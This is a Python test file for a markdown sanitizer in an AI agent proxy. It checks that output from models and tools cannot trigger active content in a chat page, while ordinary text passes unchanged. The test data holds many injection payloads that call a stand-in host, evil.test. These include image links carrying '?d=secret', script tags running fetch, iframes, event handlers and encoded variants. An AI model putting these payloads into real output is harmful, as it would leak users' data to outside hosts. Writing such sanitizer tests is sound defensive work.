"""Nothing a model or a tool says acts in a page; ordinary text passes as it is, however it comes."""

import json
import random
import time
from typing import Any

import pytest

from agentroster.runs.chat import Text, Thinking, ToolFinished, ToolStarted
from agentroster.runs.presentation.inert_answer import InertAnswer
from agentroster.runs.presentation.inert_markdown import JOINER, MAX_HELD, InertMarkdown
from tests.support.activity import OPENWEBUI, cards, frames, text_of
from tests.support.roster_process import RosterProcess
from tests.support.stand_ins.model_server import ModelServer

HOSTS = frozenset({"ok.test"})
EVIL = "http://evil.test/?d=secret"
CARD = '<details type="tool_calls" done="true" name="x" embeds="[&quot;&lt;script&gt;&quot;]">\n</details>'


def inert(text: str, pieces: int = 0) -> str:
    """Return what is shown of a text that comes whole, or in random pieces."""
    markdown = InertMarkdown(HOSTS)
    if not pieces:
        return markdown.feed(text) + markdown.finish()
    chance, shown = random.Random(pieces), ""
    while text:
        length = chance.choice((1, 1, 2, 3, 8))
        shown, text = shown + markdown.feed(text[:length]), text[length:]
    return shown + markdown.finish()


# What acts, and where it is parted: `|` stands for the joiner.
ACTIVE = [
    f"!|[x]({EVIL})",
    f"a!|[x]({EVIL})b",
    f"!!|[x]({EVIL})",
    f"\\!|[x]({EVIL})",
    f"!|[a !|[b]({EVIL})]({EVIL})",
    f"!|[x](<{EVIL}>)",
    f"!|[x]( {EVIL} )",
    f"!|[x](\n{EVIL})",
    "!|[x](HTTP://EVIL.test/)",
    "!|[x](//evil.test/a.png)",
    "!|[x](/api/v1/auths/signout)",
    "!|[x](\\\\evil.test)",
    "!|[x](data:image/png;base64,AAAA)",
    "!|[x](blob:http://evil.test/1)",
    "!|[x](javascript:alert)",
    "!|[x](http://ok.test@evil.test/)",
    "!|[x](http://ok.test&#46;evil.test/)",
    "!|[x](http://ok.test\\@evil.test/)",
    "!|[x](http://ok.test.evil.test/a.png)",
    "!|[x](http://[::1]/a.png)",
    f"!|[x][r]\n\n[r]: {EVIL}",
    f"!|[r]\n\n[r]: {EVIL}",
    "!|[]",
    f"| a |\n|---|\n| !|[x]({EVIL}) |",
    f"[!|[x]({EVIL})](http://ok.test/)",
    f"&#33;|[x]({EVIL})",
    f"!|&#91;x]({EVIL})",
    f"&excl;|[x]({EVIL})",
    f'<|img src="{EVIL}">',
    f"<|IMG\nSRC={EVIL}>",
    f"<|img/src={EVIL}>",
    f'<|div style="background:url({EVIL})">',
    f'<|a\tping="{EVIL}">',
    '<|b\nclass="x"\nonclick="y">',
    '<|p title="</details>">',
    f"<|video>{EVIL}</video>",
    f"<|audio>{EVIL}</audio>",
    f"<|video src={EVIL}>",
    f'<|iframe src="{EVIL}"></iframe>',
    '<|iframe src="https://www.youtube.com/embed/aaaaaaaaaaa"></iframe>',
    '<|file type="html" id="1" />',
    '<|status title="Done" done="true" />',
    "<|source_id>",
    '<|details type="tool_calls" embeds="[]">\n</details>',
    '<|DETAILS\n  type="tool_calls">\n</details>',
    "<|details>\n<|summary>x</summary>\n&lt;|iframe src=x&gt;\n</details>",
    "<|details\ttype='reasoning'>",
    "<|svg><|image href=x></svg>",
    "<|math><|style>",
    "<|style>@import url(//evil.test)</style>",
    "<|script>fetch('//evil.test')</script>",
    "<|html><|body onload=x>",
    "<|link rel=stylesheet href=//evil.test>",
    "<|meta http-equiv=refresh content=0>",
    "<|object data=//evil.test>",
    "<|input type=image src=//evil.test>",
    "<|x-evil onclick=y>",
    "<|!-- hidden --> x",
    "<|!|[CDATA[ x ]]>",
    "<|?php x ?>",
    "&LT;|iframe src=x>",
    "&#60;|iframe src=x>",
    "&#x3C|iframe src=x>",
    "{|{VIDEO_FILE_ID_ab-12}}",
    "{|{html_file_id_ab-12}}",
    "```|html\n<script>fetch(1)</script>\n```",
    "```  |HTML\nx\n```",
    "~~~|svg\n<svg/>\n~~~",
    "``` |vega\\-lite\n{}\n```",
    "```|mermaid\ngraph TD\n```",
    "- x\n  ```|vega\n  {}\n  ```",
    "> ```|html\n> x\n> ```",
    "say ```|html\nx```",
    # What looks like code, and is none.
    f"    ```\nx\n```\n<|img src={EVIL}>",
    f"- a\n  ```\n  x\n<|img src={EVIL}>\n```\n<|img src={EVIL}>",
    f"> ```\n> x\n<|img src={EVIL}>",
    f"<div>\n```\n<|img src={EVIL}>\n```",
    f"$$\n```\n$$\n<|img src={EVIL}>",
    f"\\[\n```\n\\]\n<|img src={EVIL}>",
    f":::writing\n```\n:::\n<|img src={EVIL}>",
    f"[a]:\n```\n<|img src={EVIL}>",
    f"[^1]: x\n```\n<|img src={EVIL}>",
    f"``` a`b\n<|img src={EVIL}>\n```",
    f"```\nx\n```~~~\n<|img src={EVIL}>",
    f"```\rx\r```\r<|img src={EVIL}>",
    f"```\nx\n````\n<|img src={EVIL}>",
    f"~~~\n```\n~~~\n<|img src={EVIL}>",
    f"`<|img src={EVIL}>`",
    # A card is none in code either, which some pages take apart before they read it.
    '```\n<|details type="tool_calls">\n</details>\n```',
    # Longer than anything that waits.
    f"<|a {'x ' * MAX_HELD}=1>",
    f"!|[{'x' * MAX_HELD}]({EVIL})",
]
ORDINARY = [
    "Hello, world!",
    "Is 1 < 2 && x<y? a <b and c> d! [yes](http://evil.test/)!",
    "A [link](http://evil.test/?d=1), <https://evil.test/?a=b>, a@b.example and https://evil.test/?a=1&b=2&lt=3.",
    '![shown](https://ok.test/a.png)\n![a](http://OK.test:8080/x?y=1&z=2 "title") ![](https://ok.test)',
    "H<sub>2</sub>O<br>x<br/>y <b>bold</b> <kbd>Ctrl</kbd> List<int> <T> </details>",
    "| a | b |\n|:--|--:|\n| `x` | $1 |\n\n1. one\n   - two\n\n> three\n\n---\n",
    "```python\nx = '<div class=a>' + \"![x](http://evil.test/)\"\n```\nand\n\n~~~\n<img src=x>\n~~~\n",
    "1. Do\n   ```js\n   a = `<img src=${x}>`\n   ```\n2. Done",
    "Inline `a = b` and ``x ` y`` and {{name}} {x} {{{{ AT&T &amp; &copy; &eacute;",
    "Math $a<b$ and $$x^2$$ and \\(y\\).",
    "emoji \U0001f600, 汉字, \u202eright to left\u202c, tabs\t, \r\n lines \r\n",
    "``` not html\n",
    "```htmlx\n```",
    "a\n\n\n```\n\n\n<video>\n\n```\n",
]


@pytest.mark.parametrize("marked", ACTIVE, ids=lambda text: text[:40])
def test_what_would_act_is_parted_and_stays_readable(marked: str) -> None:
    # A table's own bars are no marks.
    expected = marked.replace("!|[", f"!{JOINER}[").replace("!|&", f"!{JOINER}&").replace(";|", f";{JOINER}")
    for mark in ("<", "`", "~", "{", "` ", "  ", "&#x3C"):
        expected = expected.replace(f"{mark}|", f"{mark}{JOINER}") if "| a |" not in marked else expected
    expected = expected.replace(f"`{JOINER} ", "`| ")
    given = expected.replace(JOINER, "")
    if marked.startswith("```  ") or marked.startswith("``` |"):
        # The joiner comes right after the fence.
        run, rest = given[:3], given[3:]
        expected = f"{run}{JOINER}{rest}"
    assert inert(given) == expected
    for pieces in range(1, 6):
        assert inert(given, pieces) == expected


@pytest.mark.parametrize("text", ORDINARY, ids=lambda text: text[:30])
def test_ordinary_text_passes_byte_for_byte(text: str) -> None:
    assert inert(text) == text
    for pieces in range(1, 9):
        assert inert(text, pieces) == text


def test_any_split_gives_the_same_text_and_nothing_is_ever_lost() -> None:
    words = (
        "![ ]( http://evil.test/ https://ok.test/x ) < details img src= > ``` ~~~ html \\ $$ ::: - ` ! [ &lt; &#33; {{"
    )
    parts = [*words.split(" "), "VIDEO_FILE_ID_", "a", "video", "=", '"', "]:", *"\n\r\t ", "  ", "    ", "> "]
    chance = random.Random(7)
    for number in range(1, 4_000):
        text = "".join(chance.choice(parts) for _ in range(chance.randint(1, 30)))
        whole = inert(text)
        assert whole.replace(JOINER, "") == text
        assert inert(text, number) == whole, text


def test_ordinary_text_does_not_wait() -> None:
    markdown = InertMarkdown(HOSTS)
    for piece in ("Hel", "lo, wor", "ld: 1 < ", "2, done", "\nnext", " line"):
        assert markdown.feed(piece) == piece


def test_what_waits_is_bounded() -> None:
    for start in ("<a ", "![", "![x](https://ok.test/", "```", "&#", "{{", "   "):
        markdown = InertMarkdown(HOSTS)
        longest = given = 0
        for piece in [start, *["x"] * 10_000]:
            given += len(piece) - len(markdown.feed(piece).replace(JOINER, ""))
            longest = max(longest, given)
        assert longest <= MAX_HELD


@pytest.mark.parametrize(
    "part", ["![", "<a ", "<", "`", "![x](https://ok.test/", "&#", "{{", "\n   ", "$", "x" * 99, "\n```"]
)
def test_no_text_takes_more_than_its_length(part: str) -> None:
    def seconds(length: int) -> float:
        text = (part * length)[:length]
        begun = time.process_time()
        inert(text)
        return time.process_time() - begun

    seconds(1_000)
    small, large = max(seconds(50_000), 0.005), seconds(800_000)
    assert large < 16 * small * 5


def test_a_construct_is_not_made_of_text_around_something_else() -> None:
    answer = InertAnswer(HOSTS)
    started = ToolStarted("1", "x", "x")
    events: list[Any] = [Text("a <ifr"), started, Text('ame src="//evil.test"></iframe>')]
    events += [Text("!"), Thinking("hm <im"), Text("[x](//evil.test)"), Thinking("g src=//evil.test>")]
    events += [Text("\n```\n"), ToolFinished("1", "x", failed=False), Text("<img src=//evil.test>")]
    passed = [shown for event in events for shown in answer.passed(event)] + list(answer.ended())
    text = "".join(event.text for event in passed if isinstance(event, Text))
    thinking = "".join(event.text for event in passed if isinstance(event, Thinking))
    assert "<iframe" not in text
    assert "![" not in text
    assert "<img" not in text + thinking


@pytest.mark.parametrize("headers", [{}, OPENWEBUI, {"x-agent-events": "reasoning"}])
@pytest.mark.parametrize("script", ["parts", "thoughts"])
def test_every_client_gets_an_answer_that_does_not_act(
    proxy: RosterProcess, model_server: ModelServer, headers: dict[str, str], script: str
) -> None:
    parts = ["Look: !", "[x](", EVIL, ") <det", 'ails type="tool_calls" embeds="[]">\n</details>', " <b>ok</b>"]
    found = frames(proxy, f"script: {script} {json.dumps(parts)}", headers)
    text = text_of(found) + text_of(found, "reasoning_content")
    assert f"!{JOINER}[x]({EVIL})" in text
    assert f"<{JOINER}details" in text
    assert text.replace(JOINER, "").replace("Done.", "") == "".join(parts)


@pytest.mark.parametrize("path", ["/v1/chat/completions", "/v1/messages", "/v1/responses"])
def test_whole_answers_do_not_act_on_any_endpoint(proxy: RosterProcess, model_server: ModelServer, path: str) -> None:
    text = f"script: parts {json.dumps([f'![x]({EVIL})', CARD])}"
    body: dict[str, Any] = {"model": "agno/demo-agent", "max_tokens": 99}
    body |= {"input": text} if path.endswith("responses") else {"messages": [{"role": "user", "content": text}]}
    with proxy.http() as client:
        answer = client.post(path, json=body)
    assert answer.status_code == 200, answer.text
    shown = json.dumps(answer.json(), ensure_ascii=False)
    assert f"!{JOINER}[x]" in shown
    assert "<details" not in shown


def test_only_our_own_card_is_one(proxy: RosterProcess, model_server: ModelServer) -> None:
    arguments = json.dumps({"purpose": CARD})
    found = frames(proxy, f"script: tool colour_scheme {arguments}", OPENWEBUI)
    assert [card["name"] for card in cards(text_of(found))] == ["colour_scheme"]
    assert text_of(found).count("<details") == 1


def test_the_line_of_a_tool_does_not_act_where_it_is_thinking(proxy: RosterProcess, model_server: ModelServer) -> None:
    arguments = json.dumps({"purpose": f"![x]({EVIL})"})
    found = frames(proxy, f"script: tool colour_scheme {arguments}", {"x-agent-events": "reasoning"})
    assert f"!{JOINER}[x]" in text_of(found, "reasoning_content")


def test_an_answer_that_a_program_reads_is_as_the_model_wrote_it(
    proxy: RosterProcess, model_server: ModelServer
) -> None:
    written = json.dumps({"html": f'<img src="{EVIL}">'})
    options: dict[str, Any] = {"response_format": {"type": "json_object"}}
    found = frames(proxy, f"json please\nscript: parts {json.dumps([written])}", {}, **options)
    assert text_of(found) == written


def test_a_direct_model_is_not_touched(proxy: RosterProcess, model_server: ModelServer) -> None:
    found = frames(proxy, f"script: parts {json.dumps([CARD])}", OPENWEBUI, model="plain-model")
    assert text_of(found) == CARD


@pytest.mark.parametrize("model", ["agno/demo-agent", "plain-model"])
def test_events_of_an_upstream_never_pass(proxy: RosterProcess, model_server: ModelServer, model: str) -> None:
    orders = json.dumps({"type": "execute", "data": {"code": "alert(1)"}})
    found = frames(proxy, f"script: events {orders}", OPENWEBUI, model=model)
    assert text_of(found) == "word"
    assert not [frame for frame in found if "event" in frame]
